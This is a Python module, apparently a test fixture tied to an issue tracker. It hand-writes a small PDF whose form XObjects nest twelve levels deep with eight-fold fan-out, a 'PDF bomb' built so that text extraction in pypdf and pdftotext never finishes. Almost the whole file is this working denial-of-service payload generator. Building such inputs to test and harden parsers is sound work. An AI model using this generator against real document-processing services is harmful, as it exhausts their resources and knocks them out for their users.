"""PDFs made to hurt a reader: small files whose reading never ends (issue 30, item 4).

`xobject_bomb` writes a 3 KB PDF whose one page draws a form XObject eight times, which
draws the next eight times, twelve levels deep: 8^12 (69 billion) text runs for a reader
that follows every drawing, as pypdf's text extraction does (and poppler's pdftotext).
Written by hand here, object by object, with a correct cross-reference table.
"""

from __future__ import annotations

from pathlib import Path

LEVELS = 12
FANOUT = 8
FONT = b"<< /Font << /F1 4 0 R >> >>"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object's body: its dictionary with /Length, then the data."""
    return dictionary[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _form(level: int, number: int) -> bytes:
    """Form XObject *level*: draws the next one FANOUT times (the last shows a word)."""
    head = b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources "
    if level == LEVELS - 1:
        return _stream(head + FONT + b" >>", b"BT /F1 12 Tf 0 0 Td (bomb) Tj ET")
    resources = b"<< /XObject << /X %d 0 R >> /Font << /F1 4 0 R >> >>" % (number + 1)
    return _stream(head + resources + b" >>", b" ".join([b"/X Do"] * FANOUT))


def xobject_bomb(path: Path) -> Path:
    """Write the nested-XObject PDF to *path*; the path."""
    page = b"BT /F1 12 Tf 72 700 Td (A page) Tj ET " + b" ".join([b"/X Do"] * FANOUT)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R "
        b"/Resources << /XObject << /X 6 0 R >> /Font << /F1 4 0 R >> >> >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: _stream(b"<< >>", page),
    }
    for level in range(LEVELS):
        objects[6 + level] = _form(level, 6 + level)
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    path.write_bytes(bytes(out))
    return path
